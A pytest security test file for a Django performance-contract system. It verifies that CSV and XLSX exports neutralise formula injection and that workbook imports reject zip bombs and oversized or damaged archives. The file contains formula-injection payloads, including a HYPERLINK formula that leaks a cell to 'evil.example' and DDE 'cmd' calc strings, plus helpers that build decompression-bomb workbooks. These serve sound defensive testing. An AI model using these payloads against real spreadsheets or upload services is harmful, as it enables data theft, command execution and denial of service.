"""Security model — spreadsheets in and out.

Exports. Every CSV and XLSX the system writes (generated reports, dashboard and league-table exports,
the import template) passes each cell through one function, ``pmis.spreadsheets.safe_cell``: a text
cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading
single quote (OWASP's rule for CSV injection), so a value someone typed into the system (a target
description, an institution name, a comment) never becomes a live formula in the reader's
spreadsheet program. Numbers stay numbers: a negative number, or text that is only a number such as
``-1,250.5``, is not a formula and is left as it is.

Imports. An uploaded workbook is a zip; before it is opened, the archive's member count and the
total size its members unpack to are checked against ``TARGET_IMPORT_MAX_ZIP_MEMBERS`` and
``TARGET_IMPORT_MAX_UNPACKED_BYTES``, so a small file that unpacks to hundreds of megabytes (a zip
bomb) is refused at once with a clear message and nothing is imported. The workbook is then read
in read-only mode, with at most ``TARGET_IMPORT_MAX_ROWS`` rows (plus a margin) and
``uploads.MAX_COLUMNS`` columns per row.
"""

import csv
import io
import re
import time
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from contracts.cycle import targets
from contracts.documents import importing, uploads
from contracts.models import PerformanceContract, Target
from pmis.models import Institution
from pmis.spreadsheets import safe_cell
from reports import requesting, services
from reports.models import GeneratedReport
from scorecards.models import ContractScore

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the evidence")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def produce(user, kind, params, fmt, capture):
    with capture(execute=True):
        report = requesting.request_report(user, kind, params, fmt)
    report.refresh_from_db()
    assert report.state == GeneratedReport.State.READY, report.error
    return report.file.open("rb").read()


def _plain_number(text):
    try:
        Decimal(text.replace(",", ""))
    except ArithmeticError:
        return False
    return text.replace(",", "").lstrip("-").replace(".", "", 1).isdigit()


def xlsx_cells(data):
    """Every non-empty cell of every sheet, read back from the bytes."""
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def assert_no_formula_in_xlsx(data, payloads=PAYLOADS):
    cells = xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a live formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(DANGEROUS) and not _plain_number(t)]
    for payload in payloads:
        # XML reads a carriage return back as a line feed; the quote in front is what counts.
        assert "'" + payload.replace("\r", "\n") in texts


def assert_no_formula_in_csv(data, payloads=PAYLOADS):
    fields = [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for f in row]
    assert not [f for f in fields if f.startswith(DANGEROUS) and not _plain_number(f)]
    for payload in payloads:
        assert "'" + payload in fields


# ---------------------------------------------------------------------------------------------
# The one rule


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_like_text_is_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [None, 0, -5, -5.5, Decimal("-12.25"), 3, "-5", "-1,250.5", "12",
                                   "Drill 20 boreholes", "", "a=b", "Q3", "'=already quoted"])
def test_numbers_and_plain_text_are_left_alone(value):
    result = safe_cell(value)
    assert result == value and type(result) is type(value)


# ---------------------------------------------------------------------------------------------
# Generated reports


def officer_plan_with_payloads(demo):
    """The officer's draft plan, its targets renamed through the one writer (audited, so the payloads
    are in the contract history too)."""
    plan = PerformanceContract.objects.get(officer=demo.officer)
    ids = list(Target.objects.filter(contract=plan).order_by("pk").values_list("pk", flat=True))
    for n, payload in enumerate(PAYLOADS):
        fresh = Target.objects.get(pk=ids[n % len(ids)])
        targets.update_target(demo.users["officer"], fresh, description=payload, lock_version=fresh.lock_version)
    return plan


def test_contract_history_xlsx_and_csv_carry_no_live_formula(demo, media, eager, django_capture_on_commit_callbacks):
    plan = officer_plan_with_payloads(demo)
    officer = demo.users["officer"]
    data = produce(officer, "contract_history", {"contract": plan.pk}, "xlsx", django_capture_on_commit_callbacks)
    assert_no_formula_in_xlsx(data)
    data = produce(officer, "contract_history", {"contract": plan.pk}, "csv", django_capture_on_commit_callbacks)
    assert_no_formula_in_csv(data)


def test_annual_report_xlsx_and_csv_carry_no_live_formula(demo, media, eager, django_capture_on_commit_callbacks):
    """A draft plan's title (anyone drafting a plan chooses it) is a cell of the annual report."""
    title = PAYLOADS[0]
    PerformanceContract.objects.filter(officer=demo.officer).update(title=title)
    auditor = demo.users["auditor"]
    data = produce(auditor, "annual", {"institution": demo.water.pk}, "xlsx", django_capture_on_commit_callbacks)
    assert_no_formula_in_xlsx(data, [title])
    numbers = [c.value for c in load_workbook(io.BytesIO(data))["Targets"]["A"][1:]]
    assert numbers and all(isinstance(n, int) for n in numbers)  # numbers stay numbers
    data = produce(auditor, "annual", {"institution": demo.water.pk}, "csv", django_capture_on_commit_callbacks)
    assert_no_formula_in_csv(data, [title])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_report_renderers_neutralise_every_cell(demo, fmt):
    """Every cell a report renders (header lines, column names, rows), whatever the report kind."""
    report = GeneratedReport(title=PAYLOADS[1], requested_by_name=PAYLOADS[2], format=fmt)
    data = {"title": PAYLOADS[3], "tables": [
        {"name": "Table", "columns": [PAYLOADS[4], "Value"], "rows": [[p, -5] for p in PAYLOADS]}]}
    content = services.RENDERERS[fmt](report, None, data, "0" * 64, timezone.now())
    if fmt == "xlsx":
        assert_no_formula_in_xlsx(content)
        values = [c.value for c in load_workbook(io.BytesIO(content))["Table"]["B"][1:]]
        assert values == [-5] * len(PAYLOADS)
    else:
        assert_no_formula_in_csv(content)


# ---------------------------------------------------------------------------------------------
# Dashboard and league-table exports


def test_dashboard_and_league_exports_carry_no_live_formula(demo, client):
    name = "@SUM(1+1)*cmd|' /C calc'!A0"
    Institution.objects.filter(pk=demo.water.pk).update(name=name)
    for score in ContractScore.objects.filter(institution=demo.water, level="institution"):
        for payload, target in zip(PAYLOADS, score.targets, strict=False):
            target["description"] = payload
        score.save(update_fields=["targets"])
    scored = ContractScore.objects.filter(institution=demo.water, level="institution").exclude(targets=[])
    assert scored.exists()
    payloads = PAYLOADS[:min(len(s.targets) for s in scored)] + [name]
    period = scored.order_by("-period").first().period

    client.force_login(demo.users["head"])
    for fmt, check in (("xlsx", assert_no_formula_in_xlsx), ("csv", assert_no_formula_in_csv)):
        response = client.get(reverse(f"institution-export-{fmt}", args=[demo.water.pk]), {"period": period})
        assert response.status_code == 200
        check(response.content, payloads)

    client.force_login(demo.users["perfdept"])
    for fmt, check in (("xlsx", assert_no_formula_in_xlsx), ("csv", assert_no_formula_in_csv)):
        response = client.get(reverse(f"league-export-{fmt}"))
        assert response.status_code == 200
        check(response.content, [name])


def test_a_negative_number_stays_a_number_in_the_dashboard_export(demo, client):
    score = ContractScore.objects.filter(institution=demo.water, level="institution").exclude(targets=[]).first()
    score.targets[0]["actual"] = "-5"
    score.save(update_fields=["targets"])
    client.force_login(demo.users["head"])
    response = client.get(reverse("institution-export-xlsx", args=[demo.water.pk]), {"period": score.period})
    sheet = load_workbook(io.BytesIO(response.content)).active
    actuals = [c.value for c in sheet["G"][1:]]
    assert -5 in actuals and all(v is None or isinstance(v, int | float) for v in actuals)


# ---------------------------------------------------------------------------------------------
# Import: the zip bomb


def plan(demo):
    return PerformanceContract.objects.get(officer=demo.officer)


HEADER = ["perspective", "indicator", "description", "target", "weight", "parent"]
ROW = ["CM", "Boreholes drilled and commissioned", "Drill 6 more boreholes in Wajir", 6, 5,
       "Drill and commission 150 boreholes in ASAL counties"]


def workbook_bytes(rows):
    book = Workbook()
    for r in rows:
        book.active.append(r)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


SST = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


def bomb(unpacked_bytes, *, extra_members=0):
    """A real workbook (it imports as it stands) with the shared-strings part Excel writes, holding one
    string of ``unpacked_bytes`` characters: deflated, a few kilobytes; openpyxl loads it whole."""
    original = zipfile.ZipFile(io.BytesIO(workbook_bytes([HEADER, ROW])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in original.infolist():
            data = original.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", f'<Override PartName="/xl/sharedStrings.xml" '
                                                 f'ContentType="{SST}"/></Types>'.encode())
            archive.writestr(info.filename, data)
        with archive.open("xl/sharedStrings.xml", "w") as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            chunk = b"A" * (1024 * 1024)
            for _ in range(unpacked_bytes // len(chunk)):
                part.write(chunk)
            part.write(b"</t></si></sst>")
        for n in range(extra_members):
            archive.writestr(f"xl/media/padding{n}.bin", b"")
    return out.getvalue()


def test_the_template_workbook_imports(demo):
    """The workbook the bomb is made from imports as it stands (so only the bomb is refused)."""
    result = importing.import_targets(demo.users["officer"], plan(demo),
                                      SimpleUploadedFile("t.xlsx", workbook_bytes([HEADER, ROW])))
    assert result.ok, [str(e) for e in result.errors]


def test_a_zip_bomb_is_refused_before_it_is_unpacked(demo, settings):
    settings.TARGET_IMPORT_MAX_UNPACKED_BYTES = 4 * 1024 * 1024
    data = bomb(40 * 1024 * 1024)  # 40 MB of shared strings
    assert len(data) < 100 * 1024
    assert sum(m.file_size for m in zipfile.ZipFile(io.BytesIO(data)).infolist()) > 40 * 1024 * 1024
    before = Target.objects.filter(contract=plan(demo)).count()
    tracemalloc.start()
    started = time.perf_counter()
    result = importing.import_targets(demo.users["officer"], plan(demo), SimpleUploadedFile("bomb.xlsx", data))
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert not result.ok and result.count == 0
    assert "unpacks to" in str(result.errors[0]) and len(result.errors) == 1
    assert Target.objects.filter(contract=plan(demo)).count() == before
    assert elapsed < 1 and peak < 5 * 1024 * 1024, (elapsed, peak)


def test_a_zip_of_many_members_is_refused(demo, settings):
    settings.TARGET_IMPORT_MAX_ZIP_MEMBERS = 30
    result = importing.import_targets(demo.users["officer"], plan(demo),
                                      SimpleUploadedFile("many.xlsx", bomb(0, extra_members=40)))
    assert not result.ok and result.count == 0
    assert "files" in str(result.errors[0])


def test_columns_past_the_limit_are_not_read(demo):
    wide = list(ROW) + [None] * (uploads.MAX_COLUMNS + 10) + ["x"]
    result = importing.import_targets(demo.users["officer"], plan(demo),
                                      SimpleUploadedFile("wide.xlsx", workbook_bytes([HEADER, wide])))
    assert result.ok, [str(e) for e in result.errors]
    assert uploads.read_rows(SimpleUploadedFile("wide.xlsx", workbook_bytes([HEADER, wide])))[1] == (
        list(ROW) + [None] * (uploads.MAX_COLUMNS - len(ROW)))


def test_a_sheet_claiming_a_huge_range_is_read_within_the_limits(demo):
    """The sheet's dimension claims A1:XFD1048576 (17 billion cells); read-only padding to it would
    exhaust memory. Only the limits are read, and the real rows import."""
    original = zipfile.ZipFile(io.BytesIO(workbook_bytes([HEADER, ROW])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in original.infolist():
            data = original.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*" ?/>', b'<dimension ref="A1:XFD1048576"/>', data)
                assert b"XFD1048576" in data
            archive.writestr(info.filename, data)
    started = time.perf_counter()
    result = importing.import_targets(demo.users["officer"], plan(demo), SimpleUploadedFile("x.xlsx", out.getvalue()))
    assert time.perf_counter() - started < 5
    assert result.ok, [str(e) for e in result.errors]


def test_a_row_of_millions_of_empty_cells_is_refused_before_it_is_parsed(demo):
    """18 MB of ``<c/>`` in one row: within the unpacked limit, but openpyxl would build every cell
    (minutes, gigabytes). The cell limit refuses it while streaming."""
    original = zipfile.ZipFile(io.BytesIO(workbook_bytes([HEADER, ROW])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in original.infolist():
            data = original.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</row>", b"<c/>" * 4_500_000 + b"</row>", 1)
            archive.writestr(info.filename, data)
    started = time.perf_counter()
    result = importing.import_targets(demo.users["officer"], plan(demo), SimpleUploadedFile("c.xlsx", out.getvalue()))
    assert time.perf_counter() - started < 5
    assert not result.ok and "cells" in str(result.errors[0])


def test_a_damaged_workbook_is_refused_with_a_message_not_an_error(demo):
    data = bytearray(workbook_bytes([HEADER, ROW]))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    start = sheet.header_offset + 30 + len(sheet.filename.encode()) + len(sheet.extra)
    middle = start + sheet.compress_size // 2
    data[middle] ^= 0xFF  # the stored bytes no longer inflate to what the archive declares
    before = Target.objects.filter(contract=plan(demo)).count()
    result = importing.import_targets(demo.users["officer"], plan(demo),
                                      SimpleUploadedFile("damaged.xlsx", bytes(data)))
    assert not result.ok and result.count == 0
    assert "not an Excel workbook" in " ".join(str(e) for e in result.errors)
    assert Target.objects.filter(contract=plan(demo)).count() == before
